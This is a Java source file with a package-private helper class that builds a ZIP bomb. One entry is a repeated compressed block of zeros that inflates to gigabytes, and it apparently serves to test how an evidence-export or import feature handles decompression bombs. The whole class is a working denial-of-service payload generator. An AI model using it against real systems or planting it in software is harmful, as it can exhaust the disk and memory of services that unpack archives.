package org.xenfusa.exports.evidence;

import java.io.BufferedOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

/**
 * Writes a small ZIP whose entry inflates to gigabytes of zeros, in a second: the deflate stream is
 * one compressed mebibyte of zeros (ended by a full flush, so it is the same bytes each time) repeated,
 * then an empty final block. Other entries are stored as they are.
 */
final class ZipBomb {
    private static final int MIB = 1 << 20;

    private ZipBomb() {
    }

    private record Entry(String name, int method, long crc, long compressed, long size, long offset) {
    }

    /** Writes {@code zerosName} expanding to {@code mebibytes} MiB of zeros, then {@code name, bytes} pairs stored. */
    static void write(Path file, String zerosName, int mebibytes, Object... stored) throws IOException {
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
        byte[] zeros = new byte[MIB];
        deflater.setInput(zeros);
        byte[] out = new byte[MIB];
        int chunkLength = deflater.deflate(out, 0, out.length, Deflater.FULL_FLUSH);
        byte[] chunk = Arrays.copyOf(out, chunkLength);
        deflater.finish();
        byte[] last = Arrays.copyOf(out, deflater.deflate(out));
        deflater.end();
        CRC32 crc = new CRC32();
        for (int i = 0; i < mebibytes; i++) {
            crc.update(zeros);
        }
        List<Entry> entries = new ArrayList<>();
        long offset = 0;
        try (OutputStream os = new BufferedOutputStream(Files.newOutputStream(file))) {
            long compressed = (long) chunk.length * mebibytes + last.length;
            Entry bomb = new Entry(zerosName, 8, crc.getValue(), compressed, (long) mebibytes * MIB, offset);
            offset += writeLocal(os, bomb);
            for (int i = 0; i < mebibytes; i++) {
                os.write(chunk);
            }
            os.write(last);
            offset += compressed;
            entries.add(bomb);
            for (int i = 0; i < stored.length; i += 2) {
                byte[] bytes = (byte[]) stored[i + 1];
                CRC32 c = new CRC32();
                c.update(bytes);
                Entry e = new Entry((String) stored[i], 0, c.getValue(), bytes.length, bytes.length, offset);
                offset += writeLocal(os, e);
                os.write(bytes);
                offset += bytes.length;
                entries.add(e);
            }
            long centralStart = offset;
            for (Entry e : entries) {
                byte[] name = e.name().getBytes(StandardCharsets.UTF_8);
                ByteBuffer b = ByteBuffer.allocate(46 + name.length).order(ByteOrder.LITTLE_ENDIAN);
                b.putInt(0x02014b50).putShort((short) 20).putShort((short) 20).putShort((short) 0x800)
                        .putShort((short) e.method()).putShort((short) 0).putShort((short) 0x21)
                        .putInt((int) e.crc()).putInt((int) e.compressed()).putInt((int) e.size())
                        .putShort((short) name.length).putShort((short) 0).putShort((short) 0).putShort((short) 0)
                        .putShort((short) 0).putInt(0).putInt((int) e.offset()).put(name);
                os.write(b.array());
                offset += b.capacity();
            }
            ByteBuffer end = ByteBuffer.allocate(22).order(ByteOrder.LITTLE_ENDIAN);
            end.putInt(0x06054b50).putShort((short) 0).putShort((short) 0).putShort((short) entries.size())
                    .putShort((short) entries.size()).putInt((int) (offset - centralStart)).putInt((int) centralStart)
                    .putShort((short) 0);
            os.write(end.array());
        }
    }

    private static int writeLocal(OutputStream os, Entry e) throws IOException {
        byte[] name = e.name().getBytes(StandardCharsets.UTF_8);
        ByteBuffer b = ByteBuffer.allocate(30 + name.length).order(ByteOrder.LITTLE_ENDIAN);
        b.putInt(0x04034b50).putShort((short) 20).putShort((short) 0x800).putShort((short) e.method())
                .putShort((short) 0).putShort((short) 0x21).putInt((int) e.crc()).putInt((int) e.compressed())
                .putInt((int) e.size()).putShort((short) name.length).putShort((short) 0).put(name);
        os.write(b.array());
        return b.capacity();
    }
}
